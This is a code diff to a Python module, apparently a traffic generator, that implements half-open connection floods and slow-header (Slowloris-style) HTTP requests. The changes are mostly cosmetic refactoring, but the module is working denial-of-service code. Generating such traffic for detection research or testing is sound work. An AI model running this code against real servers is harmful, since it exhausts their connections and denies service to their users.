@@ -1,4 +1,5 @@
 """Families `half-open` (openings never completed) and `slow-headers` (requests never completed)."""
+
 import ctypes
 import socket
 import struct
@@ -9,6 +10,7 @@ import tls
 
 SO_ATTACH_FILTER = 26
 TCP_SYNCNT = 7
+LISTEN_S = 9  # as long as the servers repeat their answers: a closed socket would refuse them
 
 
 def half_open(me, settings: dict) -> None:
@@ -24,11 +26,11 @@ def half_open(me, settings: dict) -> None:
     waiting = []
     for _ in range(settings["openings"]):
         address = me.address(host, me.version(host))
-        waiting.append((time.time(), deaf_opening(me, address, me.rng.choice(settings["ports"]))))
+        waiting.append(deaf_opening(me, address, me.rng.choice(settings["ports"])))
         if not me.sleep(me.rng.expovariate(settings["rate"])):
             break
-    time.sleep(9)
-    for _, sock in waiting:
+    time.sleep(LISTEN_S)
+    for sock in waiting:
         sock.close()
 
 
@@ -65,13 +67,19 @@ def dribble(me, site: str, settings: dict, gate: threading.Semaphore) -> None:
     """Keep one request unfinished until the server has had enough."""
     try:
         port = me.rng.choice((80, 443, 443))
-        sock = tls.connect(me, "slow_headers", site) if port == 443 else tls.connect_plain(me, "slow_headers", site, 80)
+        sock = (
+            tls.connect(me, "slow_headers", site)
+            if port == 443
+            else tls.connect_plain(me, "slow_headers", site, 80)
+        )
         with sock:
             sock.sendall(tls.head(me, "GET", f"/s{me.rng.randrange(12)}", site)[:-2])
             until = time.time() + min(settings["seconds"] * me.rng.uniform(0.6, 1.4), me.left())
             while time.time() < until:
                 time.sleep(me.rng.uniform(*settings["pause"]))
-                sock.sendall(f"X-{me.rng.randrange(9999)}: {me.rng.randbytes(me.rng.randint(2, 20)).hex()}\r\n".encode())
+                sock.sendall(
+                    f"X-{me.rng.randrange(9999)}: {me.rng.randbytes(me.rng.randint(2, 20)).hex()}\r\n".encode()
+                )
     except OSError:
         pass  # the server hung up
     finally:
